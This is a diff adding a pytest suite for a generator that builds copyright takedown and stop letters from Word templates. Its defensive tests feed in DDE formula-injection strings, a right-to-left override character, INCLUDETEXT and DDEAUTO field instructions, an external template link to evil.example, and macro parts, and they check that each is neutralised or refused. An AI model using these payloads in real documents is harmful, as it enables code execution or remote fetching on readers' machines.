@@ -1,0 +1,260 @@
+"""Papers made of the standard templates and of ones that somebody edited: what they hold, and what they refuse."""
+
+import io
+import zipfile
+from collections.abc import Callable, Sequence
+from datetime import UTC, datetime
+from typing import Any
+
+import docx
+import pytest
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
+from pypdf import PdfReader
+
+from core.errors import BadInput
+from core.wording import say
+from papers.finished import PaperFiles, advised, finish, lacking
+from papers.kinds import FIELDS, LAWS, PaperKind
+from papers.standard import standard_template
+from papers.word_reading import read_word
+from papers.word_template import Values, filled, try_template
+
+AT = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
+HOSTILE = "=cmd|' /C calc'!A0 {{权利人名称}} <w:fldSimple w:instr=\"DDE\"/> #eval(1) \u202e反转"
+
+
+def values(**others: str | Sequence[dict[str, str]]) -> Values:
+    """Every field has something in it."""
+    given: dict[str, Any] = {
+        field.code: [
+            dict.fromkeys(field.columns, f"{field.name}之一"),
+            dict.fromkeys(field.columns, f"{field.name}之二"),
+        ]
+        if field.columns
+        else f"某{field.name}"
+        for field in FIELDS
+    }
+    return {**given, **others}
+
+
+def text_of(word: bytes) -> str:
+    return "\n".join(str(node.text) for node in docx.Document(io.BytesIO(word)).element.body.iter(qn("w:t")))
+
+
+def printed(files: PaperFiles) -> str:
+    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(files.pdf)).pages).replace("\n", "")
+
+
+def edited(kind: PaperKind, change: Callable[[Any], None]) -> bytes:
+    """A standard template that somebody changed in Word."""
+    file, kept = docx.Document(io.BytesIO(standard_template(kind))), io.BytesIO()
+    change(file)
+    file.save(kept)
+    return kept.getvalue()
+
+
+def said(kind: PaperKind, template: bytes) -> list[str]:
+    return [say(fault, "en") for fault in try_template(template, kind)]
+
+
+@pytest.mark.parametrize("kind", PaperKind)
+def test_the_standard_templates_have_all_that_the_law_asks_for(kind: PaperKind) -> None:
+    assert said(kind, standard_template(kind)) == []
+    files = finish(kind, standard_template(kind), values(), AT)
+    for field in FIELDS:
+        if kind in field.needed:
+            shown = "之二" if field.columns else f"某{field.name}"
+            assert shown in text_of(files.word), field.name
+    assert "{{" not in text_of(files.word)
+    assert files.pdf.startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("kind", PaperKind)
+def test_no_paper_is_finished_while_a_field_of_the_law_is_empty(kind: PaperKind) -> None:
+    needed = [field for field in FIELDS if kind in field.needed]
+    assert needed
+    for field in needed:
+        for empty in ([], [dict.fromkeys(field.columns, " ")]) if field.columns else ("", " \n"):
+            lacks = values(**{field.code: empty})
+            assert lacking(kind, lacks) == [field]
+            with pytest.raises(BadInput) as refused:
+                finish(kind, standard_template(kind), lacks, AT)
+            assert field.name in say(refused.value.message, "zh")
+
+
+def test_what_only_the_recommended_form_asks_for_is_pointed_out_and_holds_nothing_up() -> None:
+    given = values(holder_postcode="", site_ip="")
+    assert [field.code for field in advised(PaperKind.REMOVAL, given)] == ["site_ip", "holder_postcode"]
+    assert finish(PaperKind.REMOVAL, standard_template(PaperKind.REMOVAL), given, AT).pdf
+
+
+def test_every_law_has_words_in_both_languages_and_every_field_a_name_of_its_own() -> None:
+    assert len({field.code for field in FIELDS}) == len({field.name for field in FIELDS}) == len(FIELDS)
+    for field in FIELDS:
+        for law in field.needed.values():
+            assert LAWS[law].en
+            assert LAWS[law].zh
+
+
+def test_a_row_is_written_for_each_address_and_word_and_pdf_say_the_same() -> None:
+    rows = [
+        {"number": str(number), "url": f"https://pirate.example/book/{number}.html", "work": "《渡口无灯》"}
+        for number in range(1, 60)
+    ]
+    files = finish(PaperKind.REMOVAL, standard_template(PaperKind.REMOVAL), values(addresses=rows), AT)
+    for row in rows:
+        assert row["url"] in text_of(files.word)
+        assert row["url"] in printed(files)
+    assert len(PdfReader(io.BytesIO(files.pdf)).pages) > 2
+
+
+def test_a_field_that_is_alone_becomes_a_paragraph_for_each_line() -> None:
+    word = filled(standard_template(PaperKind.REMOVAL), values(demands="一、立即删除；\n二、书面回复。"))
+    lines = [paragraph.text for paragraph in docx.Document(io.BytesIO(word)).paragraphs]
+    assert lines[lines.index("一、立即删除；") + 1] == "二、书面回复。"
+
+
+def test_a_field_that_word_cut_into_pieces_is_filled_in_the_look_of_its_beginning() -> None:
+    def cut(file: Any) -> None:
+        paragraph = file.add_paragraph()
+        for piece, is_bold in (("致{", False), ("{权利", True), ("人名称}", False), ("} 台鉴", False)):
+            paragraph.add_run(piece).bold = is_bold
+
+    word = filled(edited(PaperKind.STOP_LETTER, cut), values(holder_name="长河\n文学"))
+    last = docx.Document(io.BytesIO(word)).paragraphs[-1]
+    assert last.text == "致长河\n文学 台鉴"
+
+
+def test_what_a_page_says_is_text_and_nothing_else() -> None:
+    rows = [dict.fromkeys(("number", "url", "title", "work", "chapters"), HOSTILE)]
+    files = finish(
+        PaperKind.STOP_LETTER, standard_template(PaperKind.STOP_LETTER), values(addresses=rows, facts=HOSTILE), AT
+    )
+    body = docx.Document(io.BytesIO(files.word)).element.body
+    assert "<w:fldSimple w:instr=" in text_of(files.word)
+    assert "{{权利人名称}}" in text_of(files.word), "a value is not filled again"
+    assert "‹RLO›" in text_of(files.word)
+    assert "\u202e" not in text_of(files.word)
+    for tag in ("w:fldSimple", "w:instrText", "w:hyperlink", "w:object"):
+        assert next(body.iter(qn(tag)), None) is None
+    with zipfile.ZipFile(io.BytesIO(files.word)) as archive:
+        assert not any(b'TargetMode="External"' in archive.read(name) for name in archive.namelist())
+    assert "#eval(1)" in printed(files)
+    assert not any("/Annots" in page for page in PdfReader(io.BytesIO(files.pdf)).pages), "no link is live"
+
+
+def test_a_letterhead_a_merged_cell_and_bold_words_come_out_in_the_pdf() -> None:
+    def dress(file: Any) -> None:
+        file.sections[0].header.paragraphs[0].text = "长河文学法务部专用函"
+        table = file.add_table(rows=1, cols=3)
+        table.cell(0, 0).merge(table.cell(0, 1)).text = "合并的一格"
+
+    template = edited(PaperKind.STOP_LETTER, dress)
+    files = finish(PaperKind.STOP_LETTER, template, values(), AT)
+    assert "长河文学法务部专用函" in printed(files)
+    read = read_word(files.word, "函")
+    assert read.blocks[-1].rows[0][0].span == 2  # type: ignore[union-attr]
+    assert "合并的一格" in printed(files)
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("{{权利人名字}}", "did you mean {{权利人名称}}?"),
+        ("{{ 天气 }}", "there is no field {{天气}}"),
+        ("{{网址.地址}}", "must stand in the row of a table"),
+        ("{{网址}}", "is written with one of these columns: 序号"),
+        ("{{网址.颜色}}", "is written with one of these columns"),
+        ("{{日期.年}}", "a field that is no list with none"),
+    ],
+)
+def test_a_field_that_is_none_is_named(text: str, words: str) -> None:
+    (fault,) = said(PaperKind.STOP_LETTER, edited(PaperKind.STOP_LETTER, lambda file: file.add_paragraph(text)))
+    assert words in fault
+
+
+def test_two_lists_in_a_row_and_a_missing_field_are_named_with_the_law() -> None:
+    def mix(file: Any) -> None:
+        file.add_table(rows=1, cols=1).cell(0, 0).text = "{{网址.地址}} {{作品.名称}}"
+        for paragraph in file.paragraphs:
+            if "{{保证声明}}" in paragraph.text:
+                paragraph._p.getparent().remove(paragraph._p)
+
+    mixed, lacks = said(PaperKind.REMOVAL, edited(PaperKind.REMOVAL, mix))
+    assert "fields of several lists: addresses, works" in mixed
+    assert "lacks {{保证声明}}" in lacks
+    assert "article 14" in lacks
+
+
+def _instruction(file: Any) -> None:
+    field = OxmlElement("w:fldSimple")
+    field.set(qn("w:instr"), 'INCLUDETEXT "http://evil.example/x"')
+    file.paragraphs[0]._p.append(field)
+
+
+def _cut_instruction(file: Any) -> None:
+    for piece in ("DDE", "AUTO c:\\\\windows"):
+        run = OxmlElement("w:r")
+        said_here = OxmlElement("w:instrText")
+        said_here.text = piece
+        run.append(said_here)
+        file.paragraphs[0]._p.append(run)
+
+
+def _page_number(file: Any) -> None:
+    field = OxmlElement("w:fldSimple")
+    field.set(qn("w:instr"), " PAGE ")
+    file.sections[0].footer.paragraphs[0]._p.append(field)
+
+
+def _tracked(file: Any) -> None:
+    file.paragraphs[0]._p.append(OxmlElement("w:ins"))
+
+
+def _linked(file: Any) -> None:
+    file.part.relate_to("http://evil.example/t.dotm", "http://example/attachedTemplate", is_external=True)
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        (_instruction, "works by itself, INCLUDETEXT"),
+        (_cut_instruction, "works by itself, DDEAUTO"),
+        (_tracked, "tracked changes"),
+        (_linked, "links to something outside of it, “http://evil.example/t.dotm”"),
+    ],
+)
+def test_a_template_that_acts_by_itself_is_refused(change: Callable[[Any], None], words: str) -> None:
+    with pytest.raises(BadInput, match=words):
+        try_template(edited(PaperKind.STOP_LETTER, change), PaperKind.STOP_LETTER)
+
+
+def test_page_numbers_may_stand_in_a_template() -> None:
+    assert said(PaperKind.STOP_LETTER, edited(PaperKind.STOP_LETTER, _page_number)) == []
+
+
+def with_part(name: str, content: bytes) -> bytes:
+    made = io.BytesIO(standard_template(PaperKind.STOP_LETTER))
+    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(name, content)
+    return made.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"", "no Word file"),
+        (b"PK\x03\x04broken", "no Word file"),
+        (b"\xd0\xcf\x11\xe0 an old .doc", "no Word file"),
+        (with_part("word/vbaProject.bin", b"x"), "macros"),
+        (with_part("word/embeddings/a.xlsx", b"x"), "macros"),
+        (with_part("word/extra.xml", b"<a"), "no Word file"),
+        (with_part("word/media/big.png", b"\0" * (41 * 1024 * 1024)), "larger than 4 MB, or holds more"),
+        (b"PK\x03\x04" + b"\0" * (4 * 1024 * 1024), "larger than 4 MB"),
+    ],
+    ids=["empty", "broken", "old", "macros", "embedded", "xml", "unpacks", "large"],
+)
+def test_a_file_that_is_no_plain_word_document_is_refused(content: bytes, words: str) -> None:
+    with pytest.raises(BadInput, match=words):
+        try_template(content, PaperKind.STOP_LETTER)
